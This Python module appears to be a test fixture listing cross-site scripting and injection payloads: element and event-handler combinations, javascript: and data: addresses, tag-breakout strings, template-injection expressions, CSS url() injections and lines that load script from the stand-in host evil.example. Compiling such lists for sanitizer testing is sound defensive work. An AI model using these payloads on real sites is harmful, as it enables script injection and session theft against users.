"""Texts that would run, or fetch something, wherever text becomes markup, an address, a style or a template."""

from __future__ import annotations

from itertools import product

_ELEMENTS = (
    "img src=x", "svg", "body", "iframe src=//evil.example/f", "video src=x", "audio src=x", "details open",
    "input autofocus", "select autofocus", "marquee", "object data=//evil.example/o", "embed src=//evil.example/e",
    "math", "style", "button autofocus",
)  # fmt: skip
_HANDLERS = ("onerror", "onload", "ontoggle", "onfocus", "onstart", "onanimationstart", "onbegin")
_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "\x01javascript:alert(1)", "javascript&colon;alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)", "//evil.example/p", "/\\evil.example/p", "\\\\evil.example/p", "http://evil.example/p",
    "https:evil.example", "https:/\\evil.example/p", "blob:https://evil.example/p", "file:///etc/passwd",
    "https://evil.example/p\nx", "/%0d%0ajavascript:alert(1)", "#javascript:alert(1)", "?javascript:alert(1)",
    "data:image/svg+xml,<svg onload=alert(1)>", "filesystem:http://evil.example/p", "view-source:javascript:alert(1)",
)  # fmt: skip
_BREAKS = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", '"><script>alert(1)</script>',
    "'><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "<script src=//evil.example/s.js></script>", "</style><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>", "<link rel=stylesheet href=//evil.example/c.css>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/m'>", "<style>@import '//evil.example/i.css'</style>",
    "<img src=//evil.example/i.png>", '" onmouseover=alert(1) x="', "' autofocus onfocus=alert(1) x='",
    "`${alert(1)}`", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "#{alert(1)}", "<%= alert(1) %>",
    "{{7*7}}", "__proto__", "constructor", "prototype", "<template><script>alert(1)</script></template>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<a href=javascript:alert(1)>x</a>", "<form action=javascript:alert(1)><input type=submit>", "<isindex action=javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "\ufeff<script>alert(1)</script>", "<\x00script>alert(1)</script>", "url(https://evil.example/u)", "expression(alert(1))",
    "red;background:url(https://evil.example/b)", "}*{background:url(https://evil.example/b)}", "image-set('https://evil.example/b' 1x)",
    "\u202ealert(1)", "x" * 5_000,
)  # fmt: skip

PAYLOADS = (
    *(f"<{e} {h}=alert(1)>" for e, h in product(_ELEMENTS, _HANDLERS)),
    *_ADDRESSES,
    *_BREAKS,
)
